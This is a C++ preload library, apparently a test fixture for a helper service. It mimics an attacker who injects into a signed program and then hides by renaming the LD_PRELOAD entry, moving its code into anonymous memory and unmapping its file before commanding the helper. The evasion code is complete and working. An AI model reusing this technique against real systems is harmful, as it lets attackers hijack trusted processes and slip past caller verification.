// libhelper_hidden.so: code an attacker preloads into a signed program and then hides. When
// MORVEX_HIDDEN_SOCKET is set, its constructor, before the program's own code runs:
//   - renames its own LD_PRELOAD entry in the process's environment block, so the block the helper
//     can read no longer names it;
//   - copies its code into anonymous memory and goes on from that copy;
//   - unmaps every mapping of its file, so no file of the attacker's shows in the memory map;
//   - connects to the helper, sends MORVEX_HIDDEN_COMMAND and writes "reply <value>" or "refused"
//     to standard output, then ends the process.
// The code in the copy reaches only what it is handed in `Hidden`: the C library's functions and
// the texts it needs (the library's own tables and constants are gone with its file).
#include <dlfcn.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

extern char** environ;

namespace {

struct Range {
    uintptr_t start;
    uintptr_t end;
};

struct Hidden {
    int (*socket)(int, int, int);
    int (*connect)(int, const sockaddr*, socklen_t);
    ssize_t (*send)(int, const void*, size_t, int);
    ssize_t (*recv)(int, void*, size_t, int);
    int (*poll)(pollfd*, nfds_t, int);
    ssize_t (*write)(int, const void*, size_t);
    int (*munmap)(void*, size_t);
    void (*exit)(int);
    Range own[16];
    int ownCount;
    sockaddr_un address;
    char frame[512];
    int frameLength;
    char refused[16];   // "refused\n"
    char replyText[8];  // "reply "
    char newline[2];    // "\n"
    char buf[4096];
};

// Runs from the anonymous copy: plain loops over `h`, nothing else.
__attribute__((noinline, used)) void fromTheCopy(Hidden* h) {
    for (int i = 0; i < h->ownCount; ++i)
        h->munmap(reinterpret_cast<void*>(h->own[i].start), h->own[i].end - h->own[i].start);
    const int fd = h->socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (h->connect(fd, reinterpret_cast<const sockaddr*>(&h->address), sizeof h->address) != 0) h->exit(4);
    // Frames: a 4-byte big-endian length, then a kind byte. Waits for each whole frame in turn;
    // the first is the helper's word that the caller is accepted.
    int sent = 0;
    int have = 0;
    for (;;) {
        if (have >= 5) {
            const auto* b = reinterpret_cast<const unsigned char*>(h->buf);
            const int length = static_cast<int>((uint32_t{b[0]} << 24) | (uint32_t{b[1]} << 16) |
                                                (uint32_t{b[2]} << 8) | uint32_t{b[3]});
            if (have >= 4 + length) {
                const char kind = h->buf[4];
                if (!sent) {
                    h->send(fd, h->frame, static_cast<size_t>(h->frameLength), MSG_NOSIGNAL);
                    sent = 1;
                } else if ((kind == 2 || kind == 4) && length >= 13) {
                    const int item = static_cast<int>((uint32_t{b[13]} << 24) | (uint32_t{b[14]} << 16) |
                                                      (uint32_t{b[15]} << 8) | uint32_t{b[16]});
                    h->write(1, h->replyText, 6);
                    h->write(1, h->buf + 17, static_cast<size_t>(item));
                    h->write(1, h->newline, 1);
                    h->exit(0);
                }
                // The frame is done with: the rest moves to the front.
                for (int i = 4 + length; i < have; ++i) h->buf[i - 4 - length] = h->buf[i];
                have -= 4 + length;
                continue;
            }
        }
        pollfd p{fd, POLLIN, 0};
        if (h->poll(&p, 1, 5000) <= 0) break;
        const ssize_t n = h->recv(fd, h->buf + have, sizeof h->buf - static_cast<size_t>(have), 0);
        if (n <= 0) break;
        have += static_cast<int>(n);
    }
    h->write(1, h->refused, 8);
    h->exit(0);
}

void putU32(char* out, uint32_t v) {
    out[0] = static_cast<char>(v >> 24);
    out[1] = static_cast<char>(v >> 16);
    out[2] = static_cast<char>(v >> 8);
    out[3] = static_cast<char>(v);
}

__attribute__((constructor)) void hide() {
    const char* path = getenv("MORVEX_HIDDEN_SOCKET");
    const char* command = getenv("MORVEX_HIDDEN_COMMAND");
    if (!path || !command || strlen(command) > 256) return;

    Hidden h{};
    h.socket = ::socket;
    h.connect = ::connect;
    h.send = ::send;
    h.recv = ::recv;
    h.poll = ::poll;
    h.write = ::write;
    h.munmap = ::munmap;
    h.exit = ::_exit;
    h.address.sun_family = AF_UNIX;
    strncpy(h.address.sun_path, path, sizeof h.address.sun_path - 1);
    const uint32_t len = static_cast<uint32_t>(strlen(command));
    putU32(h.frame, 1 + 4 + 4 + 4 + len);
    h.frame[4] = 1;  // a command
    putU32(h.frame + 5, 1);
    putU32(h.frame + 9, 1);
    putU32(h.frame + 13, len);
    memcpy(h.frame + 17, command, len);
    h.frameLength = static_cast<int>(17 + len);
    strcpy(h.refused, "refused\n");
    strcpy(h.replyText, "reply ");
    strcpy(h.newline, "\n");

    // The environment block is the process's own memory: the entry is renamed in place.
    for (char** e = environ; *e; ++e)
        if (strncmp(*e, "LD_PRELOAD=", 11) == 0) memcpy(*e, "XX", 2);

    // Every mapping of this library's file, and the one that holds the code.
    Dl_info info{};
    if (!dladdr(reinterpret_cast<void*>(&fromTheCopy), &info) || !info.dli_fname) _exit(5);
    FILE* maps = fopen("/proc/self/maps", "r");
    if (!maps) _exit(5);
    char line[4096];
    Range code{0, 0};
    const auto target = reinterpret_cast<uintptr_t>(&fromTheCopy);
    while (fgets(line, sizeof line, maps) && h.ownCount < 16) {
        unsigned long start = 0, end = 0;
        char perms[8] = {};
        int pathAt = 0;
        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &start, &end, perms, &pathAt) < 3 || pathAt == 0) continue;
        char* name = line + pathAt;
        name[strcspn(name, "\n")] = '\0';
        if (strcmp(name, info.dli_fname) != 0) continue;
        h.own[h.ownCount++] = {start, end};
        if (target >= start && target < end) code = {start, end};
    }
    fclose(maps);
    if (!code.start) _exit(5);

    const size_t size = code.end - code.start;
    void* copy = mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) _exit(5);
    memcpy(copy, reinterpret_cast<void*>(code.start), size);
    if (mprotect(copy, size, PROT_READ | PROT_EXEC) != 0) _exit(5);
    auto* moved = reinterpret_cast<void (*)(Hidden*)>(reinterpret_cast<uintptr_t>(copy) + (target - code.start));
    moved(&h);  // never returns
}

}  // namespace
